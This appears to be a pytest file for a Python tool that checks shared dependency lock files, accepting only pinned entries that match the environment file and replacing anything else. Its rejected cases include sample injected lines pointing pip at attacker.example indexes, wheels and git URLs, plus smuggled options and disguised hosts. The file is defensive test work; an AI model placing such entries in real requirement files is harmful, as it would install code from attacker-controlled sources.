"""Planted locks: none brings in an index, URL or repository that the environment file does not name."""

from __future__ import annotations

import pytest

from poltergust.environments.checked_locks import CheckedLocks
from poltergust.environments.lines import read_text
from poltergust.environments.resolve import only_pins

COMMIT = "0123456789012345678901234567890123456789"
HASH = "--hash=sha256:" + "0" * 64
OTHER = "9" * 40
LINES = tuple(
    read_text(
        "alpha\n"
        "delta @ git+https://${TOKEN}@host/a/delta.git@main\n"
        "eps @ git+https://host/a/many.git@v1#subdirectory=x\n"
        f"git+https://host/a/fixed.git@{COMMIT}#egg=fixed\n",
        "dependencies",
    )
)


class Shared:
    """Locks that anybody may have written."""

    def __init__(self, text: str | None) -> None:
        self.text = text

    def get(self, key: str) -> str | None:
        return self.text

    def publish(self, key: str, text: str) -> str:
        self.text = self.text or text
        return self.text

    def replace(self, key: str, text: str) -> None:
        self.text = text


@pytest.mark.parametrize(
    "entry",
    [
        f"alpha==1.1 {HASH} {HASH}",
        "alpha[x,y]==1!1.1.post1+cu118",
        "alpha==1.1 ; python_version < '3.12'",
        f"delta @ git+https://host/a/delta.git@{COMMIT}",
        f"eps @ git+https://host/a/many.git@{COMMIT}#subdirectory=x",
        f"fixed @ git+https://host/a/fixed.git@{COMMIT}",
        "# a comment",
        "",
    ],
)
def test_what_a_resolver_writes_is_a_lock(entry: str) -> None:
    assert only_pins(f"beta==1.0\n{entry}\n", LINES)


@pytest.mark.parametrize(
    "entry",
    [
        "--index-url https://attacker.example/simple",
        "--extra-index-url=https://attacker.example/simple",
        "--find-links https://attacker.example",
        "--no-binary :all:",
        "-r https://attacker.example/more.txt",
        "-e git+https://attacker.example/x.git#egg=x",
        "evil @ https://attacker.example/evil-1.0-py3-none-any.whl",
        "evil@https://attacker.example/evil-1.0-py3-none-any.whl",
        "evil @ file:///tmp/evil",
        "/tmp/evil",
        "./evil",
        f"delta @ git+https://attacker.example/a/delta.git@{COMMIT}",
        f"delta @ git+https://host@attacker.example/a/delta.git@{COMMIT}",
        "delta @ git+https://host/a/delta.git@main",
        f"delta @ git+https://host/a/delta.git@{COMMIT}#subdirectory=x",
        f"evil @ git+https://host/a/many.git@{COMMIT}",
        f"fixed @ git+https://host/a/fixed.git@{OTHER}",
        "beta==2.0",
        "Beta==1.0",
        "alpha==1.a.b",
        "alpha>=1.0",
        "alpha",
        "alpha==1.1 --config-settings=x=y",
        "alpha==1.1 --index-url https://attacker.example",
        "alpha==1.1 ; python_version > '3' --index-url https://attacker.example",
        "alpha==1.1 ; python_version < '3' @ https://attacker.example/x.whl",
        "\x00",
    ],
)
def test_anything_else_is_damage_and_is_replaced(entry: str) -> None:
    shared = Shared(f"beta==1.0\n{entry}\n")
    locks = CheckedLocks(shared, LINES)
    assert locks.get("key") is None
    assert locks.publish("key", "alpha==1.1\n") == "alpha==1.1\n"
    assert shared.text == "alpha==1.1\n"


def test_a_sound_one_of_another_node_stays() -> None:
    locks = CheckedLocks(Shared("alpha==1.0\n"), LINES)
    assert locks.publish("key", "alpha==1.1\n") == locks.get("key") == "alpha==1.0\n"
